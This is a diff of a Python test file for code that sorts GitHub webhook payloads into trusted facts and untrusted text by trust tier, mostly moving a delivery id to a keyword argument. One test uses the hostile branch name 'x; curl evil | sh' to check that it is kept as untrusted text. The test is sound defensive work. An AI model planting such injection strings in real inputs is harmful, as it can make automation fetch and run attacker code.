@@ -53,7 +53,7 @@ def check(made: Draft) -> None:
 
 
 def test_a_pull_request_is_split_into_facts_and_text() -> None:
-    made = draft("pull_request", "d-1", payload(action="opened", number=7, pull_request=pull()), body="00")
+    made = draft("pull_request", payload(action="opened", number=7, pull_request=pull()), delivery="d-1", body="00")
     check(made)
     assert made.facts["repo"] == "Acme/Tool"
     assert (made.facts["number"], made.facts["head"], made.facts["base"]) == (7, "fix/typo", "main")
@@ -72,43 +72,43 @@ def test_a_pull_request_is_split_into_facts_and_text() -> None:
 
 @pytest.mark.parametrize("association", ["NONE", "CONTRIBUTOR", "FIRST_TIMER", "", "owner"])
 def test_a_stranger_is_public(association: str) -> None:
-    assert draft("pull_request", "d", payload(pull_request=pull(association))).tier is Tier.PUBLIC
+    assert draft("pull_request", payload(pull_request=pull(association))).tier is Tier.PUBLIC
 
 
 def test_a_fork_is_public_whoever_opens_it() -> None:
-    made = draft("pull_request", "d", payload(pull_request=pull("OWNER", fork=True)))
+    made = draft("pull_request", payload(pull_request=pull("OWNER", fork=True)))
     assert (made.tier, made.facts["fork"]) == (Tier.PUBLIC, True)
     gone = pull()
     gone["head"] = {"ref": "x", "sha": "a" * 40, "repo": None}
-    assert draft("pull_request", "d", payload(pull_request=gone)).tier is Tier.PUBLIC
+    assert draft("pull_request", payload(pull_request=gone)).tier is Tier.PUBLIC
 
 
 def test_a_comment_is_as_trusted_as_who_wrote_it_and_brings_no_other_text() -> None:
     issue = {"number": 3, "title": "stranger's words", "body": "more", "author_association": "NONE"}
     comment = {"id": 9, "body": "thanks", "author_association": "MEMBER", "user": {"login": "ann"}}
-    made = draft("issue_comment", "d", payload(action="created", issue=issue, comment=comment))
+    made = draft("issue_comment", payload(action="created", issue=issue, comment=comment))
     check(made)
     assert made.tier is Tier.COLLABORATOR
     assert set(made.text) == {"comment_body", "author", "sender"}
     comment["author_association"] = "NONE"
-    assert draft("issue_comment", "d", payload(issue=issue, comment=comment)).tier is Tier.PUBLIC
+    assert draft("issue_comment", payload(issue=issue, comment=comment)).tier is Tier.PUBLIC
 
 
 def test_a_branch_name_that_is_no_plain_name_is_text() -> None:
     odd = "x; curl evil | sh"
-    made = draft("create", "d", payload(ref=odd, ref_type="branch"))
+    made = draft("create", payload(ref=odd, ref_type="branch"))
     check(made)
     assert "ref" not in made.facts
     assert made.text["ref"] == odd
     assert made.tier is Tier.COLLABORATOR
-    assert draft("create", "d", payload(ref="feature/x", ref_type="branch")).tier is Tier.LOCAL
-    strange = draft("check_suite", "d", payload(check_suite={"head_branch": odd, "conclusion": "failure"}))
+    assert draft("create", payload(ref="feature/x", ref_type="branch")).tier is Tier.LOCAL
+    strange = draft("check_suite", payload(check_suite={"head_branch": odd, "conclusion": "failure"}))
     assert (strange.tier, strange.facts["conclusion"]) == (Tier.PUBLIC, "failure")
 
 
 def test_a_failed_check_is_facts_alone() -> None:
     run = {"id": 5, "name": "test (3.11, ubuntu)", "conclusion": "failure", "head_branch": "main", "head_sha": "c" * 40}
-    made = draft("check_run", "d", payload(action="completed", check_run={**run, "output": {"title": "read me"}}))
+    made = draft("check_run", payload(action="completed", check_run={**run, "output": {"title": "read me"}}))
     check(made)
     assert made.tier is Tier.LOCAL
     assert made.facts["name"] == "test-3.11-ubuntu-"
@@ -120,9 +120,8 @@ def test_a_push_counts_and_quotes_its_commits() -> None:
         {"id": "d" * 40, "message": "one", "added": ["a"], "removed": [], "modified": ["b", "c"]},
         {"id": "e" * 40, "message": "two", "added": ["a"], "removed": ["x"], "modified": []},
     ]
-    made = draft(
-        "push", "d", payload(ref="refs/heads/main", before="0" * 40, after="e" * 40, forced=True, commits=commits)
-    )
+    pushed = payload(ref="refs/heads/main", before="0" * 40, after="e" * 40, forced=True, commits=commits)
+    made = draft("push", pushed)
     check(made)
     assert made.tier is Tier.COLLABORATOR
     expected = {"branch": "main", "forced": True, "commits": 2, "added": 1, "removed": 1, "modified": 2}
@@ -132,13 +131,13 @@ def test_a_push_counts_and_quotes_its_commits() -> None:
 
 def test_long_text_is_cut_with_a_note() -> None:
     comment = {"body": "x" * 70_000, "author_association": "OWNER"}
-    body = draft("issue_comment", "d", payload(comment=comment)).text["comment_body"]
+    body = draft("issue_comment", payload(comment=comment)).text["comment_body"]
     assert len(body) == TEXT_MAX
     assert body.endswith("[cut: the whole is 70000 characters long]")
 
 
 def test_a_ping_is_local_and_has_no_text() -> None:
-    made = draft("ping", "d", payload(zen="Keep it logically awesome.", hook_id=1))
+    made = draft("ping", payload(zen="Keep it logically awesome.", hook_id=1))
     assert (made.kind, made.tier, dict(made.text), made.facts["hook"]) == ("ping", Tier.LOCAL, {}, 1)
 
 
@@ -167,7 +166,7 @@ NESTED = st.recursive(
     found=st.dictionaries(st.sampled_from(WORDS), NESTED, max_size=5),
 )
 def test_no_json_object_breaks_it(event: str, found: Mapping[str, object]) -> None:
-    check(draft(event, "d", found))
+    check(draft(event, found))
 
 
 def test_every_example_payload_becomes_an_event() -> None:
@@ -178,7 +177,7 @@ def test_every_example_payload_becomes_an_event() -> None:
     assert len(lines) > 100
     for line in lines:
         example = json.loads(line)
-        made = draft(example["event"], "d", example["payload"])
+        made = draft(example["event"], example["payload"])
         check(made)
         repository = example["payload"].get("repository")
         assert made.facts.get("repo") == (repository["full_name"] if repository else None)
